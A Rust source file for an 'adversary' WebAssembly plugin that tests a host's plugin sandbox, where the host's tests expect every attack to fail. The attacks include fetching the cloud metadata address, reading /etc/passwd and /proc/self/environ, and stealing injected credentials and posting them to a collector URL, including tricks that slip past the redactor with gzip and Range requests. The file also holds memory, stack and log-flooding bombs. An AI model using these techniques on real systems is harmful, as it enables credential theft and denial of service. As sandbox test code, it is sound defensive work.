//! A hostile plugin. Each `attack:` tries one way out of offramp's sandbox and reports what it
//! got: a step that *succeeds* means the attack worked (its output is the loot); a blocked
//! attack fails the step with what stopped it. The host's tests expect every attack to fail.
//!
//! ```yaml
//! - id: metadata
//!   uses: adversary
//!   with: { attack: fetch, url: "http://169.254.169.254/latest/meta-data/" }
//!   allow: ["http://169.254.169.254"]
//! ```

use offramp_plugin_sdk::{
    Guest, HttpError, Invocation, Level, Outcome, PluginInfo, Request, TaskError, changed, export_plugin, info, input,
    log, permanent,
};
use serde::Deserialize;
use serde_json::json;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Input {
    attack: String,
    /// fetch, wasi_fetch, follow_redirect, steal_credential: where to go.
    #[serde(default)]
    url: Option<String>,
    /// steal_credential: where to send what was captured.
    #[serde(default)]
    collector: Option<String>,
    /// sockets: `ip:port` to connect to.
    #[serde(default)]
    addr: Option<String>,
    /// huge_output: MiB of output.
    #[serde(default)]
    mb: Option<u32>,
    /// Bombs: how many times.
    #[serde(default)]
    count: Option<u32>,
    /// Bombs: how big each one is, in KiB.
    #[serde(default)]
    kib: Option<u32>,
}

struct Adversary;

fn blocked(what: impl Into<String>) -> TaskError {
    permanent(format!("blocked: {}", what.into()))
}

fn http_text(e: &HttpError) -> String {
    format!("{e:?}")
}

impl Guest for Adversary {
    fn run(inv: Invocation) -> Result<Outcome, TaskError> {
        let input: Input = input(&inv)?;
        let url = || input.url.clone().ok_or_else(|| permanent("this attack needs `url`"));
        match input.attack.as_str() {
            "spin" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "memory_bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut chunk = vec![0u8; 1 << 20];
                    chunk[0] = 1;
                    chunk[(1 << 20) - 1] = 1;
                    hoard.push(std::hint::black_box(chunk));
                }
            }
            "recursion" => {
                let depth = recurse(std::hint::black_box(1));
                changed(&json!({ "depth": depth }))
            }
            "fetch" => match Request::get(url()?).send() {
                Ok(resp) => changed(&json!({ "status": resp.status(), "body": resp.text() })),
                Err(e) => Err(blocked(http_text(&e))),
            },
            "wasi_fetch" => match wasi_http_get(&url()?) {
                Ok((status, body)) => changed(&json!({ "status": status, "body": body })),
                Err(e) => Err(blocked(e)),
            },
            "follow_redirect" => {
                let first = Request::get(url()?).send().map_err(|e| blocked(http_text(&e)))?;
                let Some(location) = first.header("location").map(str::to_string) else {
                    return Err(permanent(format!("no redirect (status {})", first.status())));
                };
                log(Level::Info, &format!("following the redirect to {location}"));
                match Request::get(location).send() {
                    Ok(resp) => changed(&json!({ "status": resp.status(), "body": resp.text() })),
                    Err(e) => Err(blocked(http_text(&e))),
                }
            }
            "steal_credential" => {
                // Ask the credential host to echo our request back, with a header of our own
                // that would override the injected one if the host let it through.
                let echoed = Request::get(url()?)
                    .header("authorization", "Bearer adversary")
                    .header("x-api-key", "adversary")
                    .send()
                    .map_err(|e| blocked(http_text(&e)))?
                    .text();
                log(Level::Info, &format!("the echo said: {echoed}"));
                println!("echo: {echoed}");
                let collector = input.collector.clone().ok_or_else(|| permanent("needs `collector`"))?;
                let sent = Request::post(collector).header("x-loot", &echoed).body(echoed.clone().into_bytes()).send();
                Err(permanent(format!(
                    "captured {echoed}; exfiltration {}",
                    match sent {
                        Ok(r) => format!("answered {}", r.status()),
                        Err(e) => http_text(&e),
                    }
                )))
            }
            "env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                let args: Vec<String> = std::env::args().collect();
                let cwd = std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default();
                if vars.is_empty() && args.is_empty() {
                    Err(blocked(format!("0 environment variables, 0 arguments, cwd `{cwd}`")))
                } else {
                    changed(&json!({ "vars": vars, "args": args }))
                }
            }
            "files" => {
                let mut got = Vec::new();
                let mut errors = Vec::new();
                for path in ["/etc/passwd", "/proc/self/environ", "/", ".", "../.."] {
                    match std::fs::read(path) {
                        Ok(bytes) => got.push(format!("{path}: {} bytes", bytes.len())),
                        Err(e) => errors.push(format!("{path}: {e}")),
                    }
                    if let Ok(dir) = std::fs::read_dir(path) {
                        got.push(format!("{path}: {} entries", dir.count()));
                    }
                }
                if got.is_empty() { Err(blocked(errors.join("; "))) } else { changed(&json!({ "read": got })) }
            }
            "clock" => {
                use wasi::clocks::{monotonic_clock, wall_clock};
                let wall = wall_clock::resolution();
                let mono = monotonic_clock::resolution();
                let a = monotonic_clock::now();
                let b = monotonic_clock::now();
                let fine = mono < 1_000_000 || (wall.seconds == 0 && wall.nanoseconds < 1_000_000_000);
                let seen = format!(
                    "wall clock resolution {}s{}ns, monotonic resolution {mono}ns, two reads {}ns apart",
                    wall.seconds,
                    wall.nanoseconds,
                    b.saturating_sub(a)
                );
                if fine { changed(&json!({ "clock": seen })) } else { Err(blocked(seen)) }
            }
            "sockets" => {
                let addr = input.addr.clone().unwrap_or_else(|| "127.0.0.1:80".into());
                let mut errors = Vec::new();
                match tcp_connect(&addr) {
                    Ok(()) => return changed(&json!({ "tcp": addr })),
                    Err(e) => errors.push(format!("tcp {addr}: {e}")),
                }
                match udp_send(&addr) {
                    Ok(()) => return changed(&json!({ "udp": addr })),
                    Err(e) => errors.push(format!("udp {addr}: {e}")),
                }
                match lookup("localhost") {
                    Ok(found) => return changed(&json!({ "dns": found })),
                    Err(e) => errors.push(format!("dns: {e}")),
                }
                Err(blocked(errors.join("; ")))
            }
            "huge_output" => {
                let mb = input.mb.unwrap_or(16) as usize;
                changed(&json!({ "blob": "x".repeat(mb << 20) }))
            }
            "flood_logs" => {
                let line = "y".repeat(1000);
                for _ in 0..20_000 {
                    println!("{line}");
                    eprintln!("{line}");
                }
                for i in 0..20_000 {
                    log(Level::Info, &format!("log line {i} {line}"));
                }
                Err(permanent("flooded stdout, stderr and the log"))
            }
            "panic" => panic!("the adversary panics on purpose"),
            // Output a database may refuse to store: PostgreSQL's jsonb cannot hold `\u0000`.
            "nul_output" => changed(&json!({ "poison": "before\u{0}after" })),
            "exit" => {
                eprintln!("the adversary leaves by the back door");
                std::process::exit(3)
            }
            // Overflow Rust's own stack, which lives in linear memory (1 MiB): big frames run
            // off its bottom long before the WebAssembly stack limit is reached.
            "shadow_stack" => {
                let depth = big_frames(std::hint::black_box(1));
                changed(&json!({ "depth": depth }))
            }
            // Ask the credential's host to echo our request gzip-compressed, and decompress it
            // here, where the host's redactor cannot look (http.send, then wasi:http).
            "steal_gzip" => {
                let resp = Request::get(url()?)
                    .header("accept-encoding", "gzip")
                    .send()
                    .map_err(|e| blocked(http_text(&e)))?;
                let loot = gunzip_or_raw(&resp.raw.body);
                exfiltrate(&input, &loot, &format!("gzip, content-encoding {:?}", resp.header("content-encoding")))
            }
            "steal_gzip_wasi" => {
                let (_, body) = wasi_http_request("GET", &url()?, &[("accept-encoding", "gzip")]).map_err(blocked)?;
                let loot = gunzip_or_raw(&body);
                exfiltrate(&input, &loot, "wasi:http gzip")
            }
            // Fetch the echo eight bytes at a time with Range requests, so no single response
            // holds the credential whole.
            "steal_range" => {
                let mut loot = Vec::new();
                for i in 0..256u32 {
                    let (from, to) = (i * 8, i * 8 + 7);
                    let range = format!("bytes={from}-{to}");
                    let resp =
                        Request::get(url()?).header("range", &range).send().map_err(|e| blocked(http_text(&e)))?;
                    if resp.status() != 206 {
                        loot.extend_from_slice(&resp.raw.body);
                        break;
                    }
                    loot.extend_from_slice(&resp.raw.body);
                }
                exfiltrate(&input, &loot, "range slices")
            }
            // Host memory: wasi:http header objects, never dropped.
            "fields_bomb" => {
                use wasi::http::types::Fields;
                let (count, kib) = (input.count.unwrap_or(80_000), input.kib.unwrap_or(64) as usize);
                let value = vec![b'v'; kib * 1024];
                let mut made = 0u32;
                for i in 0..count {
                    let fields = Fields::new();
                    if let Err(e) = fields.append("x-bomb", &value) {
                        return Err(blocked(format!("header {i} refused: {e:?}")));
                    }
                    std::mem::forget(fields);
                    made += 1;
                }
                changed(&json!({ "fields": made }))
            }
            // Host memory: outgoing bodies filled and never sent.
            "bodies_bomb" => {
                use wasi::http::types::{Fields, OutgoingRequest};
                let chunk = vec![b'b'; 64 * 1024];
                let mut parked = 0u64;
                for _ in 0..input.count.unwrap_or(10_000) {
                    let request = OutgoingRequest::new(Fields::new());
                    let body = request.body().map_err(|()| blocked("no body"))?;
                    let stream = body.write().map_err(|()| blocked("no stream"))?;
                    let room = stream.check_write().unwrap_or(0) as usize;
                    let _ = stream.write(&chunk[..room.min(chunk.len())]);
                    parked += room.min(chunk.len()) as u64;
                    std::mem::forget((request, body, stream));
                }
                changed(&json!({ "parked_bytes": parked }))
            }
            // Host memory: a long method name on many requests.
            "method_bomb" => {
                use wasi::http::types::{Fields, Method, OutgoingRequest};
                let name = "M".repeat(input.kib.unwrap_or(1024) as usize * 1024);
                for i in 0..input.count.unwrap_or(1000) {
                    let request = OutgoingRequest::new(Fields::new());
                    if request.set_method(&Method::Other(name.clone())).is_err() {
                        return Err(blocked(format!("method name refused at request {i}")));
                    }
                    std::mem::forget(request);
                }
                changed(&json!({ "kept": "every method name" }))
            }
            // The request record: many refused calls, each with a long URL.
            "send_flood" => {
                let (count, kib) = (input.count.unwrap_or(100_000), input.kib.unwrap_or(0) as usize);
                let target = url()?;
                let long = format!("{target}/{}", "u".repeat(kib * 1024));
                let mut outcomes = std::collections::BTreeMap::<String, u32>::new();
                for _ in 0..count {
                    let key = match Request::get(long.clone()).send() {
                        Ok(r) => format!("status {}", r.status()),
                        Err(e) => http_text(&e).chars().take(60).collect(),
                    };
                    *outcomes.entry(key).or_default() += 1;
                }
                Err(permanent(format!("flooded: {outcomes:?}")))
            }
            other => Err(permanent(format!("unknown attack {other:?}"))),
        }
    }

    fn contract() -> Vec<offramp_plugin_sdk::ActionSpec> {
        vec![]
    }

    fn describe() -> PluginInfo {
        info(
            "adversary",
            env!("CARGO_PKG_VERSION"),
            "A hostile plugin for sandbox tests: every attack should fail",
            &[
                ("attack", "string", true, "which attack"),
                ("url", "string", false, "where network attacks go"),
                ("collector", "string", false, "steal_credential: where the loot goes"),
                ("addr", "string", false, "sockets: ip:port"),
                ("mb", "integer", false, "huge_output: MiB"),
            ],
        )
    }
}

/// Decompresses gzip, or gives the bytes back as they are.
fn gunzip_or_raw(body: &[u8]) -> Vec<u8> {
    // A gzip member: 10-byte header (no optional fields here), deflate data, 8-byte trailer.
    if body.len() > 18
        && body[0] == 0x1f
        && body[1] == 0x8b
        && let Ok(inflated) = miniz_oxide::inflate::decompress_to_vec(&body[10..body.len() - 8])
    {
        return inflated;
    }
    body.to_vec()
}

/// Writes what was captured everywhere a copy could land — reversed into the log, as hex to
/// stdout and the error, raw to the collector — the way a real thief would smuggle it.
fn exfiltrate(input: &Input, loot: &[u8], how: &str) -> Result<Outcome, TaskError> {
    let text = String::from_utf8_lossy(loot).into_owned();
    let reversed: String = text.chars().rev().collect();
    let hex: String = loot.iter().map(|b| format!("{b:02x}")).collect();
    log(Level::Info, &format!("captured ({how}), reversed: {reversed}"));
    println!("captured hex: {hex}");
    eprintln!("captured: {text}");
    let sent = match &input.collector {
        Some(c) => match Request::post(c.clone()).body(loot.to_vec()).send() {
            Ok(r) => format!("answered {}", r.status()),
            Err(e) => http_text(&e),
        },
        None => "no collector".into(),
    };
    Err(permanent(format!("captured ({how}) {hex}; exfiltration {sent}")))
}

#[inline(never)]
fn big_frames(n: u64) -> u64 {
    let mut frame = [0u8; 4096];
    frame[(n % 4096) as usize] = n as u8;
    let frame = std::hint::black_box(frame);
    if n == u64::MAX {
        return n;
    }
    big_frames(std::hint::black_box(n + 1)).wrapping_add(u64::from(frame[(n % 4096) as usize]))
}

#[inline(never)]
fn recurse(n: u64) -> u64 {
    if n == u64::MAX {
        return n;
    }
    // Not a tail call: every level keeps a frame on the WebAssembly stack.
    recurse(std::hint::black_box(n + 1)).wrapping_add(n)
}

/// `(port, address)` as wasi:sockets wants them.
type SocketParts = (u16, (u8, u8, u8, u8));

fn parse_addr(addr: &str) -> Result<SocketParts, String> {
    let (ip, port) = addr.rsplit_once(':').ok_or("addr is ip:port")?;
    let ip: std::net::Ipv4Addr = ip.parse().map_err(|_| "bad ip")?;
    let port: u16 = port.parse().map_err(|_| "bad port")?;
    let [a, b, c, d] = ip.octets();
    Ok((port, (a, b, c, d)))
}

fn tcp_connect(addr: &str) -> Result<(), String> {
    use wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
    use wasi::sockets::{instance_network::instance_network, tcp_create_socket::create_tcp_socket};
    let (port, address) = parse_addr(addr)?;
    let network = instance_network();
    let socket = create_tcp_socket(IpAddressFamily::Ipv4).map_err(|e| format!("{e:?}"))?;
    socket
        .start_connect(&network, IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address }))
        .map_err(|e| format!("{e:?}"))?;
    socket.subscribe().block();
    socket.finish_connect().map(|_| ()).map_err(|e| format!("{e:?}"))
}

fn udp_send(addr: &str) -> Result<(), String> {
    use wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
    use wasi::sockets::{instance_network::instance_network, udp_create_socket::create_udp_socket};
    let (port, address) = parse_addr(addr)?;
    let network = instance_network();
    let socket = create_udp_socket(IpAddressFamily::Ipv4).map_err(|e| format!("{e:?}"))?;
    let local = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 0, address: (0, 0, 0, 0) });
    socket.start_bind(&network, local).map_err(|e| format!("{e:?}"))?;
    socket.subscribe().block();
    socket.finish_bind().map_err(|e| format!("{e:?}"))?;
    let remote = IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address });
    socket.stream(Some(remote)).map(|_| ()).map_err(|e| format!("{e:?}"))
}

fn lookup(name: &str) -> Result<Vec<String>, String> {
    use wasi::sockets::{instance_network::instance_network, ip_name_lookup::resolve_addresses};
    let network = instance_network();
    let stream = resolve_addresses(&network, name).map_err(|e| format!("{e:?}"))?;
    let mut found = Vec::new();
    loop {
        match stream.resolve_next_address() {
            Ok(Some(a)) => found.push(format!("{a:?}")),
            Ok(None) => return Ok(found),
            Err(wasi::sockets::network::ErrorCode::WouldBlock) => stream.subscribe().block(),
            Err(e) => return Err(format!("{e:?}")),
        }
    }
}

/// A GET through `wasi:http/outgoing-handler`.
fn wasi_http_get(url: &str) -> Result<(u16, String), String> {
    wasi_http_request("GET", url, &[]).map(|(status, body)| (status, String::from_utf8_lossy(&body).into_owned()))
}

/// A request through `wasi:http/outgoing-handler`, with headers of our choosing.
fn wasi_http_request(method: &str, url: &str, headers: &[(&str, &str)]) -> Result<(u16, Vec<u8>), String> {
    use wasi::http::outgoing_handler;
    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    use wasi::io::streams::StreamError;

    let (scheme, rest) = url.split_once("://").ok_or("URL without a scheme")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let fields = Fields::new();
    for (name, value) in headers {
        fields.append(name, value.as_bytes()).map_err(|e| format!("header {name}: {e:?}"))?;
    }
    let request = OutgoingRequest::new(fields);
    let scheme = if scheme == "https" { Scheme::Https } else { Scheme::Http };
    let method = if method == "GET" { Method::Get } else { Method::Other(method.to_string()) };
    request.set_method(&method).map_err(|()| "bad method")?;
    request.set_scheme(Some(&scheme)).map_err(|()| "bad scheme")?;
    request.set_authority(Some(authority)).map_err(|()| "bad authority")?;
    request.set_path_with_query(Some(path)).map_err(|()| "bad path")?;
    let body = request.body().map_err(|()| "no body")?;
    let future = outgoing_handler::handle(request, None).map_err(|e| format!("wasi:http refused: {e:?}"))?;
    OutgoingBody::finish(body, None).map_err(|e| format!("finishing the body: {e:?}"))?;
    future.subscribe().block();
    let response = future
        .get()
        .ok_or("no response")?
        .map_err(|()| "response taken twice")?
        .map_err(|e| format!("wasi:http error: {e:?}"))?;
    let status = response.status();
    let incoming = response.consume().map_err(|()| "no body")?;
    let stream = incoming.stream().map_err(|()| "no body stream")?;
    let mut bytes = Vec::new();
    loop {
        match stream.blocking_read(64 * 1024) {
            Ok(chunk) => bytes.extend_from_slice(&chunk),
            Err(StreamError::Closed) => break,
            Err(e) => return Err(format!("reading the body: {e:?}")),
        }
    }
    drop(stream);
    Ok((status, bytes))
}

export_plugin!(Adversary);
